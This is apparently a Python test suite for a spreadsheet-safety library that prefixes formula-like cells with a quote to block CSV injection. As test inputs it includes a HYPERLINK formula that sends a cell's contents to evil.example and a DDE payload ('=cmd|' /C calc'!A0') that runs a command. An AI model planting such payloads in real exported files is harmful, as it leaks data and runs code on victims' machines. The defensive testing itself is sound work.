import csv
import io
from datetime import date, datetime, time
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pif.lib.spreadsheet_safety import (
    FORMULA_TRIGGERS,
    SpreadsheetSafetyError,
    safe_cell,
    safe_row,
)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        ),
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5", "'-5"),
    ],
)
def test_it_quotes_text_that_a_spreadsheet_would_run_as_a_formula(text, expected):
    assert safe_cell(text) == expected


@pytest.mark.parametrize(
    "text",
    ["Leeds City Council", "", "1+1", "A=B", " =1+1", "'=already quoted", "£5", "50%", "2019/20"],
)
def test_it_leaves_harmless_text_alone(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    "value",
    [
        -5,
        5,
        0,
        -5.5,
        3.2,
        Decimal("-1.25"),
        True,
        date(2019, 7, 7),
        datetime(2019, 7, 7, 9),
        time(9),
    ],
)
def test_numbers_dates_and_times_pass_through_unchanged_even_when_negative(value):
    result = safe_cell(value)
    assert result is value


def test_the_number_minus_five_is_not_quoted():
    assert safe_cell(-5) == -5


def test_none_becomes_an_empty_cell():
    assert safe_cell(None) == ""


def test_other_objects_are_written_as_their_text_and_quoted_if_needed():
    class Formulaic:
        def __str__(self) -> str:
            return "=cmd|' /C calc'!A0"

    assert safe_cell(Formulaic()) == "'=cmd|' /C calc'!A0"


def test_it_refuses_bytes_rather_than_writing_their_repr():
    with pytest.raises(SpreadsheetSafetyError, match="decode it before exporting"):
        safe_cell(b"=1+1")


def test_safe_row_makes_every_cell_safe():
    assert safe_row(["=1+1", -5, None, "Leeds"]) == ["'=1+1", -5, "", "Leeds"]


def test_a_safe_row_written_as_csv_has_no_cell_starting_a_formula():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(safe_row(['=HYPERLINK("x")', "@SUM(A1)", -5, "ok"]))
    cells = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert cells == ['\'=HYPERLINK("x")', "'@SUM(A1)", "-5", "ok"]


@given(st.text())
def test_no_safe_text_starts_with_a_formula_trigger(text):
    assert not safe_cell(text).startswith(FORMULA_TRIGGERS)


@given(st.text())
def test_safe_text_is_the_original_with_at_most_a_leading_quote(text):
    result = safe_cell(text)
    assert result in (text, "'" + text)


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.decimals(allow_nan=False)))
def test_numbers_always_pass_through(value):
    assert safe_cell(value) == value
